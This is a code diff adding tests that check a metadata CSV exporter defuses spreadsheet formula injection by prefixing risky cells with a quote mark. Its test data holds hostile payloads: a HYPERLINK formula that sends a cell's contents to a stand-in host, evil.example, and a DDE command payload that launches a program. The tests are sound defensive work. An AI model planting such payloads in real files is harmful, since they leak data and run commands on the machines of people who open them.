@@ -58,3 +58,35 @@ describe('metadata files', () => {
       );
   });
 });
+
+describe('metadata.csv against formula injection', () => {
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?x="&A2,"open")',
+    "+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(A1)',
+    '\tTab',
+    '\rReturn',
+  ];
+
+  it('a cell that a spreadsheet would run as a formula starts with a quote mark instead', () => {
+    const titled = hostile.map((title, i) =>
+      metadataRow({ ...rows[0]!, id: i, work_title: title, episode_title: title }, facts),
+    );
+    const csv = metadataCsv(titled).toString('utf8');
+    const parsed = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+    expect(parsed.map((row) => row.work_title)).toEqual(hostile.map((title) => `'${title}`));
+    expect(parsed.map((row) => row.episode_title)).toEqual(hostile.map((title) => `'${title}`));
+    // Every other cell, and metadata.jsonl, keep their text as it was.
+    expect(parsed.map((row) => row.id)).toEqual(hostile.map((_, i) => String(i)));
+    expect(metadataJsonl(titled).toString('utf8')).toContain(JSON.stringify(hostile[0]));
+  });
+
+  it('leaves ordinary titles alone, a dash or sign inside a title included', () => {
+    const csv = metadataCsv([
+      metadataRow({ ...rows[0]!, work_title: 'Re:Zero - Season 2', episode_title: 'A+B=C' }, facts),
+    ]).toString('utf8');
+    const [row] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+    expect(row).toMatchObject({ work_title: 'Re:Zero - Season 2', episode_title: 'A+B=C' });
+  });
+});
